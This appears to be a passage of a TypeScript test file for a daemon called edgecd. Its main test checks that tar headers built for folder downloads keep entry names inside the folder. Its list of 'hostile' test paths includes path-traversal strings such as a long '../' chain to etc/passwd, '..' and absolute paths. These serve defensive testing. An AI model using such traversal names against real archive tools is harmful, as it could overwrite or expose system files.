      assert.equal((await put('0'.repeat(64))).status, 422);
      assert.equal((await put(createHash('sha256').update('bytes').digest('hex'))).status, 201);
      assert.equal((await s.req('HEAD', '/case/replicated.mkv')).headers['x-object-meta-edgecd-station'], 'Station%207');
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('folder downloads', () => {
  test('a tar reader without pax support gets names that stay inside the folder; a pax reader gets the real names', async () => {
    const hostile = [
      'abc../' + '../'.repeat(40) + 'etc/passwd',
      'case/..',
      'case/./x',
      'case//x',
      '/abs/x',
      'café/' + 'é'.repeat(80) + '.mkv',
      'c/' + 'x'.repeat(120) + '/..',
      '..',
    ];
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-tar-'));
    try {
      const parts: Buffer[] = [];
      for (const path of hostile) {
        const header = tarHeader({ path, size: 1, mtime: 0 });
        // The ustar name field of the header that comes last (after any pax header).
        const name = header
          .subarray(header.length - 512, header.length - 412)
          .toString('latin1')
          .replace(/\0.*$/s, '');
        assert.ok(name.length > 0 && name.length <= 100, name);
        assert.ok(!name.startsWith('/'), name);
        for (const part of name.split('/')) assert.ok(part !== '' && part !== '.' && part !== '..', `${path} → ${name}`);
        assert.equal(name.split('/')[0], fallbackName(path.split('/')[0]!).slice(0, 40), `${path}: stays in its folder`);
        parts.push(header, Buffer.from('x'), padding(1));
      }
      parts.push(tarEnd());
      await writeFile(join(dir, 'a.tar'), Buffer.concat(parts));
      const listed = (await run('tar', ['-tf', join(dir, 'a.tar')])).stdout.trim().split('\n');
      assert.deepEqual(listed, hostile, 'GNU tar reads the pax names');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
